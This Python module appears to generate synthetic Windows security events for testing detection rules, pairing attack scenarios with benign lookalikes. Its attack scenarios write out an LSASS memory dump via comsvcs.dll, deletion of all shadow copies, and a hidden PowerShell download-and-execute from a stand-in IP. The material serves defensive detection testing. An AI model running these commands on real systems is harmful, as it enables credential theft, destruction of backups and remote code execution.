"""Stories on Windows machines."""

from collections.abc import Sequence

from soc.demo.company import Duty, Machine, Os, Person
from soc.demo.ecs import Document, Process, account_of, host_fields, plain_event, process_event
from soc.demo.stories.story import Outcome, Scene, Story, from_elsewhere

_LSASS = "LSASS Memory Dumped From the Command Line"
_SHADOWS = "Volume Shadow Copies or Backup Catalog Deleted"
_OFFICE = "Office Application Started a Script Interpreter"
_REMOTE_DESKTOP = "First Remote Desktop Logon of an Account to a Host"
_GROUPS = "Member Added to a Privileged Windows Group"
_SYSTEM32 = "C:\\Windows\\System32\\"


def _chain(*processes: Process) -> list[Document]:
    return [process_event(process) for process in processes]


def _desk(scene: Scene) -> tuple[Person, Machine]:
    """Somebody who sits at a Windows machine, and the machine."""
    machine = scene.pick(Duty.OFFICE, os=Os.WINDOWS)
    return machine.owner or scene.somebody(), machine


def _desktop(scene: Scene, person: Person, machine: Machine) -> Process:
    service = scene.service(machine, f"{_SYSTEM32}svchost.exe", "svchost.exe")
    explorer = "C:\\Windows\\explorer.exe"
    return scene.under(service, explorer, explorer, user=account_of(person, Os.WINDOWS))


def _console(scene: Scene, *line: str) -> list[Document]:
    """A command typed into a console on somebody's desktop."""
    person, machine = _desk(scene)
    console = _desktop(scene, person, machine).child(f"{_SYSTEM32}cmd.exe", "cmd.exe", after=3.0)
    return _chain(console, console.child(f"{_SYSTEM32}{line[0]}", *line, after=4.0))


def lsass_attack(scene: Scene) -> Sequence[Document]:
    """The memory of the logon service is written to a file with what Windows brings along."""
    return _console(
        scene, "rundll32.exe", f"{_SYSTEM32}comsvcs.dll,", "MiniDump", "640", "C:\\ProgramData\\d.dmp", "full"
    )


def lsass_elsewhere(scene: Scene) -> Sequence[Document]:
    """The same, replayed in the lab under an index that the rule does not read."""
    return from_elsewhere(lsass_attack(scene))


def lsass_near_miss(scene: Scene) -> Sequence[Document]:
    """The library is registered, not used to dump."""
    return _console(scene, "rundll32.exe", "comsvcs.dll,DllRegisterServer")


def shadows_attack(scene: Scene) -> Sequence[Document]:
    """The copies that would undo an encryption are deleted."""
    return _console(scene, "vssadmin.exe", "delete", "shadows", "/all", "/quiet")


def shadows_near_miss(scene: Scene) -> Sequence[Document]:
    """Somebody lists them."""
    return _console(scene, "vssadmin.exe", "list", "shadows")


def _office(scene: Scene, program: str, executable: str, *line: str) -> list[Document]:
    person, machine = _desk(scene)
    folder = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
    office = _desktop(scene, person, machine).child(f"{folder}{program}", program, "/n", after=2.0)
    return _chain(office, office.child(executable, *line, after=8.0))


def office_attack(scene: Scene) -> Sequence[Document]:
    """A document starts a hidden script interpreter."""
    line = ("powershell.exe", "-nop", "-w", "hidden", "-c", "iex(iwr http://203.0.113.66/a)")
    return _office(scene, "WINWORD.EXE", f"{_SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe", *line)


def office_lookalike(scene: Scene) -> Sequence[Document]:
    """The finance workbook exports through a command script, as it does at every month's end."""
    return _office(scene, "EXCEL.EXE", f"{_SYSTEM32}cmd.exe", "cmd.exe", "/c", "\\\\files-01\\finance\\export.cmd")


def office_near_miss(scene: Scene) -> Sequence[Document]:
    """Printing."""
    return _office(scene, "WINWORD.EXE", f"{_SYSTEM32}rundll32.exe", "rundll32.exe", "printui.dll,PrintUIEntry")


def logon_event(scene: Scene, person: Person, machine: Machine, kind: str = "RemoteInteractive") -> Document:
    """A logon as the security log of the machine tells it."""
    numbers = {"RemoteInteractive": "10", "Network": "3", "Interactive": "2"}
    fields: Document = {
        "host": host_fields(machine),
        "agent": {"id": machine.agent_id, "type": "filebeat", "version": "8.17.3"},
        "user": {"name": person.login, "domain": "TIDEWATER", "id": account_of(person, Os.WINDOWS).id},
        "source": {"ip": scene.pick(Duty.OFFICE, Duty.DIRECTORY).ip},
        "winlog": {
            "channel": "Security",
            "event_id": "4624",
            "computer_name": machine.name,
            "logon": {"type": kind},
            "event_data": {"LogonType": numbers[kind], "TargetUserName": person.login},
        },
    }
    event = plain_event(
        "system.security", scene.at, category="authentication", kind="start", action="logged-in", fields=fields
    )
    return _with_code(event, "4624", ["authentication"])


def _with_code(event: Document, code: str, categories: list[str]) -> Document:
    described = event["event"]
    assert isinstance(described, dict)  # noqa: S101 - plain_event makes it so
    return event | {
        "event": described | {"code": code, "category": categories, "provider": "Microsoft-Windows-Security-Auditing"}
    }


def remote_desktop_attack(scene: Scene) -> Sequence[Document]:
    """An account turns up on a directory server where it never was."""
    return [logon_event(scene, scene.somebody(), scene.pick(Duty.DIRECTORY))]


def remote_desktop_lookalike(scene: Scene) -> Sequence[Document]:
    """Support helps somebody at his own machine for the first time in weeks."""
    return [logon_event(scene, scene.company.person("gnowak"), _desk(scene)[1])]


def remote_desktop_near_miss(scene: Scene) -> Sequence[Document]:
    """A file share is opened: a logon over the network, not at the desktop."""
    return [logon_event(scene, scene.somebody(), scene.company.by_name["files-01"], "Network")]


def _group_event(scene: Scene, group: str, code: str, actor: str) -> Document:
    machine = scene.pick(Duty.DIRECTORY)
    member = scene.somebody()
    fields: Document = {
        "host": host_fields(machine),
        "agent": {"id": machine.agent_id, "type": "filebeat", "version": "8.17.3"},
        "user": {"name": actor, "domain": "TIDEWATER", "target": {"name": member.login, "group": {"name": group}}},
        "group": {"name": group, "domain": "TIDEWATER"},
        "winlog": {"channel": "Security", "event_id": code, "computer_name": machine.name},
    }
    action = "added-member-to-group" if code != "4729" else "removed-member-from-group"
    event = plain_event("system.security", scene.at, category="iam", kind="group", action=action, fields=fields)
    return _with_code(event, code, ["iam"])


def group_attack(scene: Scene) -> Sequence[Document]:
    """Somebody becomes a domain administrator in the middle of the night."""
    return [_group_event(scene, "Domain Admins", "4728", scene.somebody().login)]


def group_lookalike(scene: Scene) -> Sequence[Document]:
    """Support puts a colleague into the local administrators for an installation."""
    return [_group_event(scene, "Administrators", "4732", "gnowak")]


def group_near_miss(scene: Scene) -> Sequence[Document]:
    """A group that gives no power over others."""
    return [_group_event(scene, "Remote Desktop Users", "4732", "gnowak")]


_A, _L, _N = Outcome.ATTACK, Outcome.LOOKALIKE, Outcome.NEAR_MISS
WINDOWS: tuple[Story, ...] = (
    Story("logon memory dumped", _LSASS, _A, lsass_attack),
    Story("logon memory dumped, replayed in the lab", _LSASS, _N, lsass_elsewhere),
    Story("library registered", _LSASS, _N, lsass_near_miss),
    Story("shadow copies deleted", _SHADOWS, _A, shadows_attack),
    Story("shadow copies listed", _SHADOWS, _N, shadows_near_miss),
    Story("document starts powershell", _OFFICE, _A, office_attack),
    Story("month's end export", _OFFICE, _L, office_lookalike),
    Story("printing from a document", _OFFICE, _N, office_near_miss),
    Story("desktop of a directory server", _REMOTE_DESKTOP, _A, remote_desktop_attack),
    Story("support at somebody's desk", _REMOTE_DESKTOP, _L, remote_desktop_lookalike),
    Story("file share opened", _REMOTE_DESKTOP, _N, remote_desktop_near_miss),
    Story("a new domain administrator", _GROUPS, _A, group_attack),
    Story("a local administrator for an installation", _GROUPS, _L, group_lookalike),
    Story("a remote desktop user", _GROUPS, _N, group_near_miss),
)
